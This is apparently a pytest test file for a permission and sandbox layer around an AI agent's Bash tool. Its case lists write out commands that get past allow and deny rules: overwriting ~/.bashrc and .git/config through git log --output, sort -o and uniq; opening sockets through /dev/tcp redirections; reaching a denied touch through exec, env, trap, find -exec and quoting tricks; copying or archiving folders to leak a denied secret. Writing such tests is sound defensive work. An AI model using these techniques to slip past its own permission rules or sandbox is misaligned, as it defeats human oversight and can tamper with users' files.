"""Attacks through what an allowed command is told to do (issue 27 class 7, and the directory
operands of class 5), run for real against a headless session assembled from real settings:

    allow: Bash(echo *) Bash(git log *) Bash(sort *) Bash(uniq *) Bash(cat *) Bash(tar *)
    deny:  Bash(rm *) Bash(touch *) Read(./secret/**) Read(./vault/secret/**)

* writes by option: `git log --output=`, `sort -o`, `uniq IN OUT` into `~/.bashrc`, `.git/config`
  and outside the working directories — the effect looked for is the file written;
* network by redirection: `/dev/tcp/127.0.0.2/PORT` in several spellings — a loopback TCP
  listener of the test records every connection;
* deny rules by spelling: `exec`, `env`, `trap`, `find -exec`, `$VAR` … of `touch pwned` in
  bypassPermissions and under the sandbox's auto-allow — the file `pwned` is looked for;
* directory operands: moving, copying, hard-linking or archiving a folder that holds a denied
  file, then reading it — the canary is looked for in what the model got, and in any file of the
  project outside the denied folders (a copy the sandbox made with the file hidden is harmless).

Each case also runs once as plain bash, outside Vigil (`test_the_attack_is_real`): the effect must
happen there, so a case that stopped doing anything would fail rather than pass quietly. Every
case was let through by the code before this corpus (an allow rule or a mode allowed it)."""

from __future__ import annotations

import os
import socket
import subprocess
import threading
from dataclasses import dataclass

import pytest

from tests.needs import need_program
from tests.sec_kit import attempt, canary_root, isolate, make_canary, open_session, write_settings

__all__ = ["canary_root"]  # the fixture, imported for pytest

ALLOW = ["Bash(echo *)", "Bash(git log *)", "Bash(sort *)", "Bash(uniq *)", "Bash(cat *)", "Bash(tar *)"]
DENY = ["Bash(rm *)", "Bash(touch *)", "Read(./secret/**)", "Read(./vault/secret/**)"]
ASKING = ("default", "acceptEdits", "dontAsk", "plan")


class TcpTripwire:
    """A loopback TCP listener (127.0.0.2: the sandbox's own loopback is 127.0.0.1) that records
    each connection; a command that reaches it opened a socket."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.2", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, peer = self.sock.accept()
            except OSError:
                return
            self.hits.append(f"{peer}")
            conn.close()

    def close(self) -> None:
        self.sock.close()


@dataclass(frozen=True)
class A:
    id: str
    command: str
    #: what shows the attack worked: "write" (a file changed), "net" (the listener), "leak" (the canary)
    effect: str
    modes: tuple[str, ...] = ASKING


WRITES = [
    A("git-log-output-rc", "git log --output={home}/.bashrc", "write"),
    A("git-log-output-tilde-word", "git log --output ~/.bashrc", "write"),
    A("git-log-output-git-config", "git log --output=.git/config", "write"),
    A("git-log-output-outside", "git log --output={outside}/log.txt", "write"),
    A("sort-o-rc", "sort -o {home}/.bashrc notes.txt", "write"),
    A("sort-o-glued", "sort -o{home}/.bashrc notes.txt", "write"),
    A("sort-out-abbrev-git-config", "sort --out=.git/config notes.txt", "write"),
    A("sort-in-cluster", "sort -ro{outside}/sorted notes.txt", "write"),
    A("uniq-output-operand", "uniq notes.txt {home}/.bashrc", "write"),
    A("tar-file-outside", "tar -cf {outside}/x.tar src", "write"),
]
NETWORK = [
    A("dev-tcp-out", "echo hi > /dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-in", "echo hi < /dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-glued", "echo hi >/dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-quoted", 'echo hi > "/dev/tcp/127.0.0.2/{port}"', "net"),
    A("dev-tcp-escaped", "echo hi > /dev/t\\cp/127.0.0.2/{port}", "net"),
    A("dev-tcp-stderr", "echo hi 2> /dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-both", "echo hi &> /dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-cat", "cat notes.txt > /dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-exec", "exec 3<>/dev/tcp/127.0.0.2/{port}", "net"),
    A("dev-tcp-variable", "T=/dev/tcp/127.0.0.2/{port}; echo hi > $T", "net"),
]
SPELLED = ("bypassPermissions", "default+autoAllow", "dontAsk+autoAllow")
SPELLINGS = [
    A("exec", "exec touch pwned", "write", SPELLED),
    A("env", "env touch pwned", "write", SPELLED),
    A("env-i", "env -i PATH=/usr/bin:/bin touch pwned", "write", SPELLED),
    A("env-split-string", "env -S 'touch pwned'", "write", SPELLED),
    A("trap", "trap 'touch pwned' EXIT", "write", SPELLED),
    A("find-exec", "find . -maxdepth 0 -exec touch pwned ';'", "write", SPELLED),
    A("xargs-options", "echo pwned | xargs -n 1 touch", "write", SPELLED),
    A("nice", "nice -n 1 touch pwned", "write", SPELLED),
    A("backslash", "\\touch pwned", "write", SPELLED),
    A("ansi-c", "$'\\x74ouch' pwned", "write", SPELLED),
    A("path", "/usr/bin/touch pwned", "write", SPELLED),
    A("variable", "T=touch; $T pwned", "write", SPELLED),
    A("substitution", "$(echo touch) pwned", "write", SPELLED),
    A("glob", "/usr/bin/touc? pwned", "write", SPELLED),
    A("env-bash-c", "env bash -c 'touch pwned'", "write", SPELLED),
]
TREES = [
    A("mv-folder-then-read", "mv vault public && cat public/secret/key", "leak", ("acceptEdits", "bypassPermissions")),
    A("cp-r-folder-then-read", "cp -r vault public && cat public/secret/key", "leak", ("acceptEdits",)),
    A("cp-rl-folder-then-read", "cp -rl vault public && cat public/secret/key", "leak", ("acceptEdits",)),
    A("cp-rL-through-link", "cp -rL docs public && cat public/secret_link", "leak", ("acceptEdits",)),
    A("tar-to-stdout", "tar -cf - vault", "leak", ("default", "acceptEdits")),
    A("hard-link-in-project", "cat linked/copy", "leak", ("default", "acceptEdits")),
]


def _fill(canary, wire: TcpTripwire, text: str) -> str:
    return canary.fill(text).replace("{port}", str(wire.port))


def _settings(sandboxed: bool, auto_allow: bool) -> dict:
    sandbox: dict = {"enabled": sandboxed}
    if auto_allow:
        sandbox["autoAllowBashIfSandboxed"] = True
    return {"permissions": {"allow": list(ALLOW), "deny": list(DENY)}, "sandbox": sandbox}


def _prepare(root, sandboxed: bool, auto_allow: bool = False):
    canary = make_canary(root, _settings(sandboxed, auto_allow))
    vault = canary.proj / "vault" / "secret"
    vault.mkdir(parents=True)
    (vault / "key").write_text(canary.secret + "\n")
    (canary.proj / "linked").mkdir()
    os.link(canary.proj / "secret" / "key", canary.proj / "linked" / "copy")
    write_settings(canary)
    return canary


@pytest.fixture
def wire():
    tripwire = TcpTripwire()
    yield tripwire
    tripwire.close()


CASES = WRITES + NETWORK + SPELLINGS + TREES


@pytest.mark.parametrize("where", ["sandboxed", "no-sandbox"])
@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
async def test_the_attack_is_stopped(case: A, where: str, canary_root, monkeypatch, wire):
    sandboxed = where == "sandboxed"
    if sandboxed:
        need_program("bwrap")
        need_program("socat")
    for mode in case.modes:
        if "+autoAllow" in mode and not sandboxed:
            continue
        root = canary_root / mode.replace("+", "-")
        root.mkdir()
        canary = _prepare(root, sandboxed, auto_allow="+autoAllow" in mode)
        isolate(monkeypatch, canary)
        session = await open_session(canary, mode=mode.split("+")[0])
        try:
            found = await attempt(session, canary, "Bash", {"command": _fill(canary, wire, case.command)})
        finally:
            await session.close()
        what = f"[{mode}, {where}] {found.describe()}"
        assert not found.leaked, what
        assert not wire.hits, f"reached the listener: {wire.hits} {what}"
        if case.effect == "leak":
            # copies the sandbox made with the denied files hidden are harmless; a copy of the secret is not
            assert not _named_anew(canary), what
        else:
            assert not found.changed, what
        if found.ran and sandboxed:
            assert found.sandboxed, "ran outside the sandbox: " + what


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_the_attack_is_real(case: A, canary_root, monkeypatch, wire):
    """Plain bash, no Vigil: the effect each case looks for really happens."""
    canary = _prepare(canary_root, sandboxed=False)
    isolate(monkeypatch, canary)
    before = canary.snapshot()
    command = _fill(canary, wire, case.command)
    if case.id == "dev-tcp-exec":
        command += "; echo hi >&3"
    env = {**os.environ, "HOME": str(canary.home)}
    done = subprocess.run(["bash", "-c", command], cwd=canary.proj, env=env, capture_output=True, text=True, timeout=60)
    if case.effect == "write":
        assert canary.snapshot() != before, (command, done.stderr)
    elif case.effect == "net":
        assert wire.hits or _waited_for(wire), (command, done.stderr)
    else:
        assert canary.secret in done.stdout, (command, done.stdout[-300:], done.stderr)


#: where the canary is expected: the denied folders, and the hard link the project was cloned with
_KNOWN_COPIES = ("secret/", "vault/secret/", "linked/copy")


def _named_anew(canary) -> list[str]:
    """Files under the project holding the canary under a name no deny rule covers."""
    found = []
    for dirpath, _, filenames in os.walk(canary.proj):
        for name in filenames:
            path = os.path.join(dirpath, name)
            rel = os.path.relpath(path, canary.proj)
            if rel.startswith(_KNOWN_COPIES) or rel.startswith(".git/") or os.path.islink(path):
                continue
            try:
                with open(path, "rb") as handle:
                    if canary.secret.encode() in handle.read():
                        found.append(rel)
            except OSError:
                continue
    return found


def _waited_for(wire: TcpTripwire) -> bool:
    """The connection was made before bash returned; the listener's thread may not have run yet."""
    event = threading.Event()
    for _ in range(200):
        if wire.hits:
            return True
        event.wait(0.05)
    return bool(wire.hits)
